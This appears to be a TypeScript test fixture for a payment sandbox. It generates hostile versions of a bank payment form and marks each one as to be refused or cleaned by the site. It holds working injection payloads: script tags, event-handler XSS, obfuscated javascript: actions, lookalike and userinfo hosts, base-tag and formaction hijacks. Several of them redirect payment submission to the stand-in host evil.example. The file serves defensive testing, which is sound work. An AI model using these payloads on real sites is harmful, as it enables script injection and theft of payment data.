import type { Fields } from '../payments/signature.ts';

/** The bank's address and the signed fields of a valid form. */
export type FormParts = { readonly action: string; readonly fields: Fields };

export type HostileForm = {
  /** The id of the user who gets this form. */
  readonly id: string;
  readonly name: string;
  /** `cleaned`: the site must keep only the form's action, method and fields. */
  readonly outcome: 'refused' | 'cleaned';
  readonly render: (parts: FormParts) => string;
};

/** A script of a hostile form sets this property of `window` when the script runs. */
export const HOSTILE_MARK = 'hostileFormRan';
/** A foreign host, which does not resolve. */
export const HOSTILE_HOST = 'evil.example';

const EVIL = `https://${HOSTILE_HOST}/pay_auth.php`;
const RUN = `window.${HOSTILE_MARK}=true`;
const SCRIPT = `<script>${RUN}</script>`;
const MANY_FIELDS = 3_000;
const TEN_MEGABYTES = 10 * 1024 * 1024;

const escape = (text: string): string =>
  text.replace(/[&<>"']/g, (letter) => `&#${letter.charCodeAt(0)};`);

const writeFields = (fields: Fields): string =>
  Object.entries(fields)
    .map(([name, value]) => `<input type="hidden" name="${escape(name)}" value="${escape(value)}">`)
    .join('');

/** `modify` inserts these texts into the HTML without escaping them. */
type Changes = {
  readonly action?: string;
  readonly attributes?: string;
  readonly inside?: string;
  readonly before?: string;
  readonly after?: string;
};

const modify =
  (changes: Changes | ((parts: FormParts) => Changes)) =>
  (parts: FormParts): string => {
    const changed = typeof changes === 'function' ? changes(parts) : changes;
    const { before = '', after = '', inside = '', attributes = 'method="post"' } = changed;
    const action = changed.action ?? escape(parts.action);
    const start = `<form id="pay" ${attributes} action="${action}">`;
    return `${before}${start}${writeFields(parts.fields)}${inside}</form>${after}`;
  };

const formTable: readonly (readonly [string, HostileForm['outcome'], HostileForm['render']])[] = [
  [
    'scripts before, inside and behind the form',
    'cleaned',
    modify({
      before: SCRIPT,
      inside: `<script>${RUN};document.forms[0].action='${EVIL}'</script>`,
      after: `<script>${RUN};pay.action='${EVIL}';pay.submit()</script>`,
    }),
  ],
  [
    'event handlers on the form and on elements inside it, and another target',
    'cleaned',
    modify({
      attributes: `method="post" target="_top" onsubmit="${RUN}" onformdata="${RUN}"`,
      inside:
        `<input type="hidden" name="A" value="1" onfocus="${RUN}" onchange="${RUN}">` +
        `<img src="x" onerror="${RUN}"><details open ontoggle="${RUN}"></details>`,
    }),
  ],
  ['a javascript: action', 'refused', modify({ action: `javascript:${RUN}` })],
  ['a data: action', 'refused', modify({ action: `data:text/html,${escape(SCRIPT)}` })],
  [
    'a javascript: action hidden by entities, a line break and a tab',
    'refused',
    modify({ action: `&#10; &#106;ava&#x09;script&colon;${RUN}` }),
  ],
  ['an action without protocol', 'refused', modify({ action: `//${HOSTILE_HOST}/pay_auth.php` })],
  ['an action on a foreign host', 'refused', modify({ action: EVIL })],
  [
    "an action with the bank's host as user name",
    'refused',
    modify({ action: `https://secure.librapay.ro@${HOSTILE_HOST}/` }),
  ],
  [
    "an action on the bank's host without TLS",
    'refused',
    modify({ action: 'http://secure.librapay.ro/pay_auth.php' }),
  ],
  [
    'an action on a host that looks like the bank',
    'refused',
    modify({ action: `https://secure.librapay.ro.${HOSTILE_HOST}/pay_auth.php` }),
  ],
  [
    'a <base> that leads a relative action to a foreign host',
    'refused',
    modify({ before: `<base href="https://${HOSTILE_HOST}/">`, action: 'pay_auth.php' }),
  ],
  [
    'two forms, the second foreign',
    'refused',
    modify({ after: `<form method="post" action="${EVIL}"><input name="A" value="1"></form>` }),
  ],
  [
    'a form inside the form',
    'refused',
    modify({ inside: `<form method="post" action="${EVIL}"><input name="A" value="1"></form>` }),
  ],
  [
    'a form that stands only in the document of a frame',
    'refused',
    (parts) => `<iframe srcdoc="${escape(SCRIPT + modify({})(parts))}"></iframe>`,
  ],
  [
    'a button with an action of its own',
    'refused',
    modify({ inside: `<button type="submit" formaction="${EVIL}">Plătește</button>` }),
  ],
  [
    'a button elsewhere that belongs to the form and has an action of its own',
    'refused',
    modify({ after: `<p><input type="submit" form="pay" formaction="javascript:${RUN}"></p>` }),
  ],
  [
    'a refresh, objects, styles and pictures, most of them from a foreign host',
    'cleaned',
    modify({
      before:
        `<meta http-equiv="refresh" content="0;url=https://${HOSTILE_HOST}/">` +
        `<link rel="stylesheet" href="https://${HOSTILE_HOST}/a.css">` +
        `<style>@import "https://${HOSTILE_HOST}/b.css"</style>`,
      after:
        `<object data="data:text/html,${escape(SCRIPT)}"></object>` +
        `<embed src="https://${HOSTILE_HOST}/c"><img src="https://${HOSTILE_HOST}/d.gif">` +
        `<iframe src="javascript:parent.${HOSTILE_MARK}=true"></iframe>`,
    }),
  ],
  [
    'scripts in drawings and formulas',
    'cleaned',
    modify({
      before: `<svg onload="${RUN}"><script>${RUN}</script><animate onbegin="${RUN}" /></svg>`,
      after: `<math><mtext>${SCRIPT}</mtext><maction xlink:href="javascript:${RUN}">x</maction></math>`,
    }),
  ],
  ['ten megabytes', 'refused', modify({ inside: writeFields({ A: 'a'.repeat(TEN_MEGABYTES) }) })],
  [
    'thousands of fields',
    'refused',
    modify({
      inside: Array.from({ length: MANY_FIELDS }, (_, index) => `<input name=f${index}>`).join(''),
    }),
  ],
  [
    'fields named after parts of every form and object, and entities in names and values',
    'cleaned',
    modify({
      inside:
        ['action', 'method', 'elements', 'constructor', '__proto__']
          .map((name) => `<input type="hidden" name="${name}" value="&quot;&gt;&lt;script&gt;">`)
          .join('') + '<input type="hidden" name="&#65;&amp;B" value="&#x1F4B3; &euro; &notin;">',
    }),
  ],
  [
    'a field that hides the function which submits',
    'cleaned',
    modify({ inside: '<input type="hidden" name="submit" value="1">' }),
  ],
  ['a form that only closes a dialog', 'refused', modify({ attributes: 'method="dialog"' })],
  [
    'a field for files',
    'refused',
    modify({
      attributes: 'method="post" enctype="multipart/form-data"',
      inside: '<input type="file" name="card">',
    }),
  ],
  ['no form at all', 'refused', () => `<p>Eroare</p>${SCRIPT}`],
  [
    'several buttons, the first of which cancels the payment',
    'refused',
    modify(({ action }) => ({
      inside:
        `<button name="cancel" formaction="${escape(action)}?cancel=1">Anulează</button>` +
        '<button name="pay">Plătește</button>',
    })),
  ],
];

/** The ids are `sandbox-form-hostile-01` and so on, in the order of `formTable`. */
export const hostileForms: readonly HostileForm[] = formTable.map(
  ([name, outcome, render], index) => ({
    id: `sandbox-form-hostile-${String(index + 1).padStart(2, '0')}`,
    name,
    outcome,
    render,
  }),
);

export function findHostileForm(userId: string): HostileForm | undefined {
  return hostileForms.find(({ id }) => id === userId);
}
